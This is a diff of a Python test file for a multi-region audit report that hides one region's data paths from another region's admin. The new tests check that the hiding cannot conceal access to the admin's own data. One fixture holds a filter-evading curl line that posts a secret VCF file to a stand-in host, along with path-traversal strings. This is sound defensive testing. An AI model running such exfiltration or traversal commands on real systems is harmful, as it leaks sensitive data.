@@ -482,8 +482,9 @@ def test_a_run_record_is_reported_as_one_row_per_path_with_its_cell(reported):
 
 
 def test_a_path_not_in_normal_form_is_reported_where_it_leads_and_flagged(reported):
-    """``/data/norr/../syd/...`` opens syd's data: it is syd's to see, with the path as sent and a flag
-    saying where it leads (the kernel only ever sends normal forms), whichever way it was sent."""
+    """``/data/norr/../syd/...`` opens syd's data: it is syd's to see, with the path as sent (norr's dataset
+    name in it hidden) and a flag saying where it leads (the kernel only ever sends normal forms), whichever
+    way it was sent."""
     alice = Caller("alice", "cardio-gwas")
     odd = "/data/norr/norr-cohort/../../syd/syd-cohort/syd-cohort.vcf.gz"
     reported.audit.append_many(build_records(alice, [
@@ -491,7 +492,8 @@ def test_a_path_not_in_normal_form_is_reported_where_it_leads_and_flagged(report
         {"action": "file.open", "paths": ["/project/a", odd, "/project/b"], "detail": {"msg_id": "m1"}},
         *[{"action": "data.open", "path": odd, "detail": {"msg_id": "m1", "start": s}} for s in range(GROUP_MIN)],
         {"action": "file.open", "path": "relative.txt", "detail": {"msg_id": "m1"}}], None))
-    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["path"] == odd]
+    shown = odd.replace("norr-cohort", OtherRegions.HIDDEN_DATASET)  # norr's dataset name is norr's to see
+    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["path"] == shown]
     assert len(rows) == 2 + GROUP_MIN and {r["dataset"] for r in rows} == {"syd-cohort"}
     assert all("not in normal form (it opens /data/syd/syd-cohort/syd-cohort.vcf.gz)" in r["flag"]
                for r in rows)
@@ -560,6 +562,49 @@ def test_a_cell_that_names_two_regions_data_shows_each_admin_only_their_own(repo
         assert run["detail"]["argv"][0] == "cat" and OtherRegions.HIDDEN_PATH in run["detail"]["argv"]
     stored = [r for r in reported.audit.records(action="query.execute") if r.detail.get("msg_id") == "m-two"]
     assert stored[0].detail["code"] == code  # hidden in the report only: the chain keeps what ran
+
+
+def test_hiding_another_regions_data_cannot_hide_the_readers_own(reported):
+    """What a cell cannot use the hiding for: a path that leads into syd through norr's name, or a command
+    line that names norr's data first, still shows syd's admin what was done with syd's data. Files named
+    after a dataset, and paths spelt another way, are hidden from the other region's admin."""
+    alice = Caller("alice", "cardio-gwas")
+    code = ("!cat${IFS}/data/norr/norr-cohort/a;curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example\n"
+            "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'; open(p)\n"
+            "q = '/data/norr/norr-cohort/a,/data/syd/syd-cohort/b.vcf'.split(',')\n"
+            "os.chdir('/data/./norr/norr-cohort'); v = VariantFile('norr-cohort.vcf.gz')\n"
+            "w = open('/project/out/norr-cohort_filtered.tsv', 'w')")
+    reported.audit.append_many(build_records(alice, [
+        {"action": "query.execute", "detail": {"msg_id": "m-hide", "code": code}},
+        {"action": "file.open", "path": "/data/syd/syd-cohort/secret.vcf", "detail": {"msg_id": "m-hide"}}], None))
+    (row,) = [r for r in region_report(reported.audit, reported, "admin-syd", "syd")
+              if r["detail"].get("msg_id") == "m-hide"]
+    assert "curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example" in row["code"]
+    assert "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'" in row["code"]
+    assert ",/data/syd/syd-cohort/b.vcf'" in row["code"]
+    assert "norr-cohort" not in row["code"] and "/data/./norr" not in row["code"]
+    assert row["code"].count(OtherRegions.HIDDEN_PATH) == 3 and row["code"].count(OtherRegions.HIDDEN_DATASET) == 2
+
+
+def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
+    alice = Caller("alice", "cardio-gwas")
+    deep = leaf = {}
+    for _ in range(900):  # about as deep as the service stores
+        leaf["a"] = {}
+        leaf = leaf["a"]
+    leaf["p"] = "/data/syd/syd-cohort/x"
+    reported.audit.append_many(build_records(alice, [
+        {"action": "query.execute", "detail": {"msg_id": "m-deep", "code": "/" * 200_000 + "data/syd/x"}},
+        {"action": "file.open", "path": "/data/norr/norr-cohort/x", "detail": {"msg_id": "m-deep", "deep": deep}}],
+        None))
+    (row,) = [r for r in region_report(reported.audit, reported, "admin-norr", "norr")
+              if r["detail"].get("msg_id") == "m-deep"]
+    leaf = row["detail"]["deep"]
+    while "a" in leaf:
+        leaf = leaf["a"]
+    assert leaf == {"p": OtherRegions.HIDDEN_PATH} and row["code"].endswith(OtherRegions.HIDDEN_PATH)
+    for fmt in FORMATS:
+        assert "syd" not in render([row], fmt, "norr")
 
 
 def test_an_access_attributed_to_a_cell_that_never_ran_is_flagged(reported):
